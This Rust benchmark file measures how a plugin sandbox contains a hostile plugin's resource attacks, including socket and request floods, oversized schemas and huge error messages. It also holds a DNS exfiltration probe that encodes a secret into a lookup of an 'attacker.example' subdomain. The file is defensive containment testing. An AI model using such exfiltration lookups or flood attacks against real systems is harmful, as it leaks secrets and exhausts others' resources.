//! Host RSS and wall time of each resource attack of the hostile plugin,
//! contained (BENCHMARKS.md, "Sandbox resource attacks"). A bench target
//! (not a test), one process, so its peak RSS is the attacks':
//!
//! ```sh
//! cargo bench -p sluice-tests --bench sandbox
//! ```

use sluice_tests as common;

use common::*;
use sluice_runtime::bindings::types::{WriteMode, WriteTarget};
use sluice_runtime::plugin::Plugin;
use sluice_runtime::{Batch, Sandbox, Value};
use std::time::{Duration, Instant};

/// Peak resident set of this process since the last [`reset_peak`], in MiB.
fn peak_rss_mib() -> f64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<f64>().ok())
        .map_or(0.0, |kb| kb / 1024.0)
}

/// Start a new peak (Linux: writing 5 to clear_refs resets VmHWM).
fn reset_peak() {
    let _ = std::fs::write("/proc/self/clear_refs", "5");
}

fn open_fds() -> usize {
    std::fs::read_dir("/proc/self/fd").map_or(0, |d| d.count())
}

/// Run one attack in `write` (or `spec` for `huge-spec`); print a table row.
async fn measure(label: &str, config: serde_json::Value, sandbox: Sandbox) {
    let test = runtime();
    let bytes = std::fs::read(common::HOSTILE_PATH).unwrap();
    let plugin = Plugin::from_bytes(&test.runtime, "hostile", &bytes).unwrap();
    reset_peak();
    let fds = open_fds();
    let started = Instant::now();
    let mut instance = plugin.instantiate(&sandbox).await.unwrap();
    let outcome = if config["attack"] == "huge-spec" {
        instance.spec().await.map(|_| "spec accepted".to_string())
    } else {
        let target = WriteTarget {
            object: "contacts".into(),
            mode: WriteMode::Upsert,
            identifier: "id".into(),
        };
        let batch = Batch {
            columns: vec!["id".into()],
            rows: (0..3).map(|i| vec![Value::Integer(i)]).collect(),
        };
        let writer = instance
            .open_writer(&config.to_string(), &target)
            .await
            .unwrap();
        instance
            .write(&writer, &batch)
            .await
            .map(|r| format!("{} results", r.len()))
    };
    let elapsed = started.elapsed();
    let peak = peak_rss_mib();
    let kept = match &outcome {
        Ok(o) => o.clone(),
        Err(e) => {
            let text = e.to_string();
            let cut = text.char_indices().nth(110).map_or(text.len(), |(i, _)| i);
            text[..cut].to_string()
        }
    };
    println!(
        "| {label} | {:.0} | {} | {} | {kept} |",
        elapsed.as_secs_f64() * 1000.0,
        format_args!("{peak:.0}"),
        open_fds().saturating_sub(fds),
    );
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() {
    let silent = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = silent.local_addr().unwrap().port();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((s, _)) = silent.accept().await {
            held.push(s);
        }
    });
    let url = format!("http://127.0.0.1:{port}");
    let spec_dir = tempfile::tempdir().unwrap();
    std::fs::write(spec_dir.path().join("huge-spec"), "").unwrap();
    let spec_grant = format!("dir:{}:/hostile", spec_dir.path().display());
    let mut quick = sandbox(&[&url]);
    quick.limits = Some(sluice_runtime::Limits {
        http_first_byte_timeout: Duration::from_secs(2),
        ..Default::default()
    });
    println!("| attack | wall ms | peak RSS MiB | fds left | outcome |");
    println!("|---|---|---|---|---|");
    let attack = |name: &str| serde_json::json!({ "attack": name, "url": url });
    measure("baseline: env (no attack)", attack("env"), sandbox(&[])).await;
    measure(
        "20,000 sockets, no grant",
        attack("socket-flood"),
        sandbox(&[]),
    )
    .await;
    measure(
        "20,000 sockets, tcp grant",
        attack("socket-flood"),
        sandbox(&["tcp://127.0.0.1:5432"]),
    )
    .await;
    measure("30,000 requests in flight", attack("request-flood"), quick).await;
    let mut huge = sandbox(&[&spec_grant]);
    huge.limits = Some(sluice_runtime::Limits {
        memory_bytes: 1 << 30,
        ..Default::default()
    });
    measure("100 MB schema in spec", attack("huge-spec"), huge).await;
    measure(
        "3 rejections of 12 MB",
        attack("long-rejections"),
        sandbox(&[]),
    )
    .await;
    measure("an error of 12 MB", attack("long-error"), sandbox(&[])).await;
    let mut exfil = attack("resolve");
    exfil["path"] = "c2VjcmV0.exfil.attacker.example".into();
    measure(
        "DNS lookup of an ungranted name",
        exfil,
        sandbox(&["https://api.example.com"]),
    )
    .await;
}
